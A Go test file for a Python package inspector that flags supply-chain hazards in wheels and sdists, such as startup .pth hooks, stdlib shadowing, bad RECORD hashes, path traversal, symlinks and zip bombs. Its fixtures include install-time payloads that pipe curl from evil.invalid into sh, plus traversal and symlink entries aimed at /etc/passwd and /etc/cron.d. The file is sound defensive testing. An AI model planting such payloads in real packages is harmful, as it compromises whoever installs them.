package inspect_test

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/binary"
	"fmt"
	"io/fs"
	"slices"
	"strings"
	"testing"

	"github.com/airlock-dev/airlock/internal/inspect"
	"github.com/airlock-dev/airlock/internal/inspect/pyscan"
	"github.com/airlock-dev/airlock/internal/testpypi"
)

// member is one file of a hand-made archive.
type member struct {
	name, body string
	mode       fs.FileMode // 0: a regular file
	store      bool        // store instead of deflate
}

// zipOf builds a zip archive of members, in order.
func zipOf(t testing.TB, members ...member) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, m := range members {
		h := &zip.FileHeader{Name: m.name, Method: zip.Deflate}
		if m.store {
			h.Method = zip.Store
		}
		if m.mode != 0 {
			h.SetMode(m.mode)
		}
		w, err := zw.CreateHeader(h)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(m.body)); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// wheelOf builds demo-1.0's wheel from members plus METADATA, WHEEL and a
// correct RECORD; edit, when set, changes the RECORD text before it is added.
func wheelOf(t testing.TB, edit func(string) string, members ...member) []byte {
	t.Helper()
	const di = "demo-1.0.dist-info/"
	all := append(slices.Clone(members),
		member{name: di + "METADATA", body: "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"},
		member{name: di + "WHEEL", body: "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"})
	var rec strings.Builder
	for _, m := range all {
		if m.mode&fs.ModeSymlink == 0 && !strings.HasSuffix(m.name, "/") {
			fmt.Fprintf(&rec, "%s,%s,%d\n", m.name, testpypi.RecordHash([]byte(m.body)), len(m.body))
		}
	}
	rec.WriteString(di + "RECORD,,\n")
	text := rec.String()
	if edit != nil {
		text = edit(text)
	}
	return zipOf(t, append(all, member{name: di + "RECORD", body: text})...)
}

func inspectBytes(t testing.TB, data []byte, filename string, opts inspect.Options) *inspect.Report {
	t.Helper()
	rep, err := inspect.Artifact(context.Background(), bytes.NewReader(data), int64(len(data)), filename, opts)
	if err != nil {
		t.Fatalf("Artifact(%s): %v", filename, err)
	}
	return rep
}

func ids(fs []inspect.Finding) []string {
	var out []string
	for _, f := range fs {
		out = append(out, f.Rule.ID)
	}
	slices.Sort(out)
	return slices.Compact(out)
}

func TestArtifactWheels(t *testing.T) {
	pthExec, _ := testpypi.Wheel{Name: "demo", Version: "1.0", Files: map[string]string{
		"demo/__init__.py": "", "demo-hook.pth": "# comment\nimport os; os.system('curl https://evil.invalid/x | sh')\n"}}.Build()
	pthPath, _ := testpypi.Wheel{Name: "demo", Version: "1.0", Files: map[string]string{
		"demo/__init__.py": "", "demo.pth": "lib\n  import os\nimportlib\n"}}.Build()
	pipScript, _ := testpypi.Wheel{Name: "demo", Version: "1.0", ConsoleScripts: map[string]string{"pip": "demo:main"}}.Build()
	pipOwn, _ := testpypi.Wheel{Name: "pip", Version: "24.0", Files: map[string]string{"pip/__init__.py": ""},
		ConsoleScripts: map[string]string{"pip": "pip._internal.cli.main:main", "pip3.11": "pip._internal.cli.main:main"}}.Build()
	dataScript, _ := testpypi.Wheel{Name: "demo", Version: "1.0", Scripts: map[string]string{"python3": "#!python\nprint(1)\n"}}.Build()
	clean, _ := testpypi.Wheel{Name: "demo", Version: "1.0", ConsoleScripts: map[string]string{"demo": "demo:main"},
		Scripts: map[string]string{"demo-tool": "#!python\nprint(1)\n"}}.Build()

	tests := []struct {
		name string
		data []byte
		file string
		want []string
	}{
		{"clean", clean, "demo-1.0-py3-none-any.whl", nil},
		{"pth with import line", pthExec, "demo-1.0-py3-none-any.whl", []string{"AL404", "AL601"}},
		{"pth with paths only", pthPath, "demo-1.0-py3-none-any.whl", []string{"AL602"}},
		{"console script pip", pipScript, "demo-1.0-py3-none-any.whl", []string{"AL611"}},
		{"pip's own scripts", pipOwn, "pip-24.0-py3-none-any.whl", nil},
		{"data script python3", dataScript, "demo-1.0-py3-none-any.whl", []string{"AL611"}},
		{"sitecustomize", wheelOf(t, nil, member{name: "sitecustomize.py", body: "x = 1\n"}), "demo-1.0-py3-none-any.whl", []string{"AL603"}},
		{"usercustomize package", wheelOf(t, nil, member{name: "usercustomize/__init__.py"}), "demo-1.0-py3-none-any.whl", []string{"AL603"}},
		{"stdlib shadow", wheelOf(t, nil, member{name: "demo/__init__.py"}, member{name: "subprocess.py"}), "demo-1.0-py3-none-any.whl", []string{"AL612"}},
		{"tooling shadow", wheelOf(t, nil, member{name: "setuptools/__init__.py"}), "demo-1.0-py3-none-any.whl", []string{"AL614"}},
		{"outside top_level.txt", wheelOf(t, nil, member{name: "demo/__init__.py"}, member{name: "requests/__init__.py"},
			member{name: "demo-1.0.dist-info/top_level.txt", body: "demo\n"}), "demo-1.0-py3-none-any.whl", []string{"AL613"}},
		{"data into site-packages", wheelOf(t, nil, member{name: "demo-1.0.data/data/lib/python3.11/site-packages/zz.pth", body: "import os\n"}),
			"demo-1.0-py3-none-any.whl", []string{"AL601", "AL613"}},
		{"data bin script", wheelOf(t, nil, member{name: "demo-1.0.data/data/bin/git", body: "#!/bin/sh\n"}), "demo-1.0-py3-none-any.whl", []string{"AL611"}},
		{"data files are fine", wheelOf(t, nil, member{name: "demo-1.0.data/data/share/demo/x.json", body: "{}"}), "demo-1.0-py3-none-any.whl", nil},
		{"unknown data scheme", wheelOf(t, nil, member{name: "demo-1.0.data/root/etc/passwd", body: "x"}), "demo-1.0-py3-none-any.whl", []string{"AL631"}},
		{"hash mismatch", wheelOf(t, func(r string) string {
			return strings.Replace(r, "demo/__init__.py,"+testpypi.RecordHash([]byte("a = 1\n")), "demo/__init__.py,"+testpypi.RecordHash([]byte("a = 2\n")), 1)
		}, member{name: "demo/__init__.py", body: "a = 1\n"}), "demo-1.0-py3-none-any.whl", []string{"AL621"}},
		{"mangled hash", wheelOf(t, func(r string) string { return strings.Replace(r, "demo/__init__.py,", "demo/__init__.py,X", 1) },
			member{name: "demo/__init__.py", body: "a = 1\n"}), "demo-1.0-py3-none-any.whl", []string{"AL625"}},
		{"size only mismatch", wheelOf(t, func(r string) string { return strings.Replace(r, ",6\n", ",7\n", 1) },
			member{name: "demo/__init__.py", body: "a = 1\n"}), "demo-1.0-py3-none-any.whl", []string{"AL622"}},
		{"not in RECORD", wheelOf(t, func(r string) string {
			lines := strings.Split(r, "\n")
			return strings.Join(lines[1:], "\n")
		}, member{name: "demo/extra.py", body: "x"}, member{name: "demo/__init__.py"}), "demo-1.0-py3-none-any.whl", []string{"AL623"}},
		{"RECORD lists a missing file", wheelOf(t, func(r string) string { return r + "demo/gone.py,sha256=AAAA,1\n" },
			member{name: "demo/__init__.py"}), "demo-1.0-py3-none-any.whl", []string{"AL624"}},
		{"weak hash", wheelOf(t, func(r string) string {
			return strings.Replace(r, "demo/__init__.py,sha256=", "demo/__init__.py,md5=", 1)
		}, member{name: "demo/__init__.py", body: "x"}), "demo-1.0-py3-none-any.whl", []string{"AL625"}},
		{"no RECORD", zipOf(t, member{name: "demo/__init__.py"}, member{name: "demo-1.0.dist-info/WHEEL", body: "Wheel-Version: 1.0\n"}),
			"demo-1.0-py3-none-any.whl", []string{"AL625"}},
		{"no dist-info", zipOf(t, member{name: "demo/__init__.py"}), "demo-1.0-py3-none-any.whl", []string{"AL626"}},
		{"name mismatch", wheelOf(t, nil, member{name: "demo/__init__.py"}), "other-1.0-py3-none-any.whl", []string{"AL626"}},
		{"version spelled differently", wheelOf(t, nil, member{name: "demo/__init__.py"}), "demo-1.0.0-py3-none-any.whl", nil},
		{"wheel version 2", zipOf(t, member{name: "demo-1.0.dist-info/WHEEL", body: "Wheel-Version: 2.0\n"},
			member{name: "demo-1.0.dist-info/RECORD", body: "demo-1.0.dist-info/RECORD,,\ndemo-1.0.dist-info/WHEEL," + testpypi.RecordHash([]byte("Wheel-Version: 2.0\n")) + ",19\n"}),
			"demo-1.0-py3-none-any.whl", []string{"AL626"}},
		{"path traversal", wheelOf(t, nil, member{name: "../../etc/cron.d/x", body: "x"}), "demo-1.0-py3-none-any.whl", []string{"AL624", "AL631"}},
		{"absolute path", wheelOf(t, nil, member{name: "/usr/bin/pip", body: "x"}), "demo-1.0-py3-none-any.whl", []string{"AL624", "AL631"}},
		{"backslash", wheelOf(t, nil, member{name: `demo\..\..\x.py`, body: "x"}), "demo-1.0-py3-none-any.whl", []string{"AL624", "AL631"}},
		{"symlink", wheelOf(t, nil, member{name: "demo/link", body: "/etc/passwd", mode: fs.ModeSymlink | 0o777}), "demo-1.0-py3-none-any.whl", []string{"AL632"}},
		{"duplicate", wheelOf(t, nil, member{name: "demo/a.py", body: "1"}, member{name: "demo/./a.py", body: "2"}), "demo-1.0-py3-none-any.whl", []string{"AL633"}},
		{"not a zip", []byte("PK\x03\x04 definitely not a zip"), "demo-1.0-py3-none-any.whl", []string{"AL635"}},
		{"egg", []byte("x"), "demo-1.0-py3.11.egg", []string{"AL636"}},
	}
	scanner := pyscan.New()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rep := inspectBytes(t, tt.data, tt.file, inspect.Options{Sources: scanner})
			if got := ids(rep.Findings); !slices.Equal(got, tt.want) {
				for _, f := range rep.Findings {
					t.Log(f)
				}
				t.Errorf("findings %v, want %v", got, tt.want)
			}
			if len(tt.want) == 0 && rep.Verdict != inspect.ActionOff {
				t.Errorf("verdict %s for a clean wheel", rep.Verdict)
			}
			for _, f := range rep.Findings {
				if f.Archive != tt.file {
					t.Errorf("finding %s has Archive %q", f.Rule.ID, f.Archive)
				}
			}
		})
	}
}

// TestArtifactSources scans the Python inside a wheel built at test time.
func TestArtifactSources(t *testing.T) {
	data, name := testpypi.Wheel{Name: "helper", Version: "0.1", Files: map[string]string{
		"helper/__init__.py": "import subprocess, sys\n\ndef setup():\n    subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'evil'])\n",
		"helper/util.py":     "# os.system('pip install x') in a comment\nX = 'exec(base64.b64decode(...))'\n",
	}, Scripts: map[string]string{"helper-run": "#!python\nimport os\nos.system(os.environ['CMD'])\n"}}.Build()
	rep := inspectBytes(t, data, name, inspect.Options{Sources: pyscan.New()})
	var got []string
	for _, f := range rep.Findings {
		got = append(got, fmt.Sprintf("%s:%d %s", f.Path, f.Line, f.Rule.ID))
	}
	want := []string{"helper-0.1.data/scripts/helper-run:3 AL201", "helper/__init__.py:4 AL101"}
	if !slices.Equal(got, want) {
		t.Errorf("findings %v, want %v", got, want)
	}
	if rep.Sources != 3 || rep.Verdict != inspect.ActionDeny || !rep.Complete {
		t.Errorf("Sources %d, Verdict %s, Complete %v", rep.Sources, rep.Verdict, rep.Complete)
	}
	// Without a source scanner, only the structure is checked.
	if rep := inspectBytes(t, data, name, inspect.Options{}); len(rep.Findings) != 0 || rep.Sources != 0 {
		t.Errorf("without a scanner: %v", rep.Findings)
	}
}

func TestArtifactLimits(t *testing.T) {
	zeros := strings.Repeat("\x00", 8<<20)
	bomb := wheelOf(t, nil, member{name: "demo/data.bin", body: zeros})
	many := wheelOf(t, nil, member{name: "demo/a.py"}, member{name: "demo/b.py"}, member{name: "demo/c.py"})
	tests := []struct {
		name   string
		data   []byte
		limits inspect.Limits
		want   string
	}{
		{"compression ratio", bomb, inspect.Limits{}, "AL643"},
		{"member size", bomb, inspect.Limits{MaxFileSize: 1 << 20}, "AL642"},
		{"total size", many, inspect.Limits{MaxTotalSize: 10}, "AL642"},
		{"entries", many, inspect.Limits{MaxEntries: 3}, "AL641"},
		{"archive size", many, inspect.Limits{MaxArchiveSize: 100}, "AL642"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rep := inspectBytes(t, tt.data, "demo-1.0-py3-none-any.whl", inspect.Options{Limits: tt.limits})
			if got := ids(rep.Findings); !slices.Contains(got, tt.want) || rep.Complete {
				t.Errorf("findings %v (complete %v), want %s and incomplete", got, rep.Complete, tt.want)
			}
			if rep.Size > 1<<20+1 {
				t.Errorf("read %d bytes despite the limit", rep.Size)
			}
		})
	}
}

// TestArtifactOverlap builds a zip whose second member points at the
// first member's data, the way non-recursive zip bombs do.
func TestArtifactOverlap(t *testing.T) {
	data := wheelOf(t, nil, member{name: "demo/a.py", body: "aaaa"}, member{name: "demo/b.py", body: "aaaa"})
	// Point the second central directory entry at the first local header.
	var offsets []int
	for i := 0; i+4 <= len(data); i++ {
		if binary.LittleEndian.Uint32(data[i:]) == 0x02014b50 {
			offsets = append(offsets, i)
		}
	}
	first := binary.LittleEndian.Uint32(data[offsets[0]+42:])
	binary.LittleEndian.PutUint32(data[offsets[1]+42:], first)
	rep := inspectBytes(t, data, "demo-1.0-py3-none-any.whl", inspect.Options{})
	if got := ids(rep.Findings); !slices.Contains(got, "AL634") {
		t.Errorf("findings %v, want AL634", got)
	}
}

// TestArtifactCorruptMember flips a byte of a stored member: the CRC check
// must fail, as a finding rather than an error.
func TestArtifactCorruptMember(t *testing.T) {
	data := wheelOf(t, nil, member{name: "demo/a.py", body: "hello world", store: true})
	i := bytes.Index(data, []byte("hello world"))
	data[i] = 'j'
	rep := inspectBytes(t, data, "demo-1.0-py3-none-any.whl", inspect.Options{})
	if got := ids(rep.Findings); !slices.Contains(got, "AL635") {
		t.Errorf("findings %v, want AL635", got)
	}
}

func tarGz(t testing.TB, hdrs []*tar.Header, bodies []string) []byte {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for i, h := range hdrs {
		if h.Typeflag == tar.TypeReg {
			h.Size = int64(len(bodies[i]))
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		tw.Write([]byte(bodies[i]))
	}
	tw.Close()
	gz.Close()
	return buf.Bytes()
}

func TestArtifactSdists(t *testing.T) {
	plain, plainName := testpypi.Sdist{Name: "demo", Version: "1.0"}.Build()
	evil, evilName := testpypi.Sdist{Name: "demo", Version: "1.0", Files: map[string]string{
		"setup.py": "import os\nos.system('curl https://evil.invalid/x | sh')\n"}}.Build()
	zipped, zipName := testpypi.Sdist{Name: "demo", Version: "1.0", Zip: true}.Build()
	links := tarGz(t, []*tar.Header{
		{Typeflag: tar.TypeReg, Name: "demo-1.0/setup.py", Mode: 0o644},
		{Typeflag: tar.TypeSymlink, Name: "demo-1.0/link", Linkname: "/etc/passwd"},
		{Typeflag: tar.TypeLink, Name: "demo-1.0/hard", Linkname: "demo-1.0/setup.py"},
		{Typeflag: tar.TypeReg, Name: "../escape.py", Mode: 0o644},
		{Typeflag: tar.TypeReg, Name: "demo-1.0/setup.py", Mode: 0o644},
		{Typeflag: tar.TypeFifo, Name: "demo-1.0/fifo"},
	}, []string{"", "", "", "x", "y", ""})
	bomb := tarGz(t, []*tar.Header{{Typeflag: tar.TypeReg, Name: "demo-1.0/zeros", Mode: 0o644}}, []string{strings.Repeat("\x00", 4<<20)})
	tests := []struct {
		name string
		data []byte
		file string
		want []string
	}{
		{"plain", plain, plainName, []string{"AL651"}},
		{"zip", zipped, zipName, []string{"AL651"}},
		{"setup.py runs a download", evil, evilName, []string{"AL404", "AL651"}},
		{"links, traversal, duplicates", links, "demo-1.0.tar.gz", []string{"AL631", "AL632", "AL633", "AL651"}},
		{"bomb", bomb, "demo-1.0.tar.gz", []string{"AL643", "AL651"}},
		{"xz", []byte("\xfd7zXZ"), "demo-1.0.tar.xz", []string{"AL635", "AL651"}},
		{"garbage gzip", []byte("not gzip"), "demo-1.0.tar.gz", []string{"AL635", "AL651"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rep := inspectBytes(t, tt.data, tt.file, inspect.Options{Sources: pyscan.New()})
			if got := ids(rep.Findings); !slices.Equal(got, tt.want) {
				for _, f := range rep.Findings {
					t.Log(f)
				}
				t.Errorf("findings %v, want %v", got, tt.want)
			}
			if rep.Kind != inspect.KindSdist || rep.Project != "demo" || rep.Version != "1.0" {
				t.Errorf("kind %s, project %q, version %q", rep.Kind, rep.Project, rep.Version)
			}
		})
	}
}

type installed map[string]string

func (m installed) Owner(p string) (string, bool) { o, ok := m[p]; return o, ok }

func TestArtifactOverwritesInstalled(t *testing.T) {
	data, name := testpypi.Wheel{Name: "demo", Version: "1.0", Files: map[string]string{
		"demo/__init__.py": "", "requests/__init__.py": "# mine now\n"}}.Build()
	rep := inspectBytes(t, data, name, inspect.Options{Installed: installed{"requests/__init__.py": "requests", "demo/__init__.py": "demo"}})
	if got := ids(rep.Findings); !slices.Equal(got, []string{"AL615"}) {
		t.Errorf("findings %v, want [AL615]", got)
	}
}

func TestArtifactConfig(t *testing.T) {
	data, name := testpypi.Wheel{Name: "demo", Version: "1.0", Files: map[string]string{
		"demo/__init__.py": "", "demo.pth": "import demo\n", "extra.pth": "lib\n"}}.Build()
	cfg := inspect.Config{Families: map[inspect.Family]inspect.Action{inspect.FamilyStartupHook: inspect.ActionReview},
		Rules: map[string]inspect.Action{"AL602": inspect.ActionOff}}
	rep := inspectBytes(t, data, name, inspect.Options{Config: cfg})
	if len(rep.Findings) != 1 || rep.Findings[0].Rule.ID != "AL601" || rep.Findings[0].Action != inspect.ActionReview || rep.Verdict != inspect.ActionReview {
		t.Errorf("findings %v, verdict %s", rep.Findings, rep.Verdict)
	}
}

func TestKindOf(t *testing.T) {
	tests := []struct {
		file             string
		kind             inspect.Kind
		project, version string
	}{
		{"Foo_Bar-1.0-py3-none-any.whl", inspect.KindWheel, "foo-bar", "1.0"},
		{"dist/pkg-2.0-1-cp311-cp311-manylinux_2_17_x86_64.whl", inspect.KindWheel, "pkg", "2.0"},
		{"zope.interface-6.0.tar.gz", inspect.KindSdist, "zope-interface", "6.0"},
		{"x-1.zip", inspect.KindSdist, "x", "1"},
		{"x.egg", inspect.KindUnknown, "", ""},
	}
	for _, tt := range tests {
		k, p, v := inspect.KindOf(tt.file)
		if k != tt.kind || p != tt.project || v != tt.version {
			t.Errorf("KindOf(%q) = %s, %q, %q; want %s, %q, %q", tt.file, k, p, v, tt.kind, tt.project, tt.version)
		}
	}
}

func FuzzArtifact(f *testing.F) {
	w, _ := testpypi.Wheel{Name: "demo", Version: "1.0", Files: map[string]string{"demo/__init__.py": "import os\n", "d.pth": "import x\n"}}.Build()
	s, _ := testpypi.Sdist{Name: "demo", Version: "1.0"}.Build()
	f.Add(w, true)
	f.Add(s, false)
	f.Add([]byte("PK\x05\x06"+strings.Repeat("\x00", 18)), true)
	scanner := pyscan.New()
	limits := inspect.Limits{MaxTotalSize: 16 << 20, MaxEntries: 1000}
	f.Fuzz(func(t *testing.T, data []byte, wheel bool) {
		name := "demo-1.0.tar.gz"
		if wheel {
			name = "demo-1.0-py3-none-any.whl"
		}
		rep, err := inspect.Artifact(context.Background(), bytes.NewReader(data), int64(len(data)), name, inspect.Options{Sources: scanner, Limits: limits})
		if err != nil {
			t.Fatalf("Artifact: %v (a bytes.Reader cannot fail, so every problem must be a finding)", err)
		}
		if rep.Size > limits.MaxTotalSize {
			t.Fatalf("read %d bytes, limit %d", rep.Size, limits.MaxTotalSize)
		}
	})
}
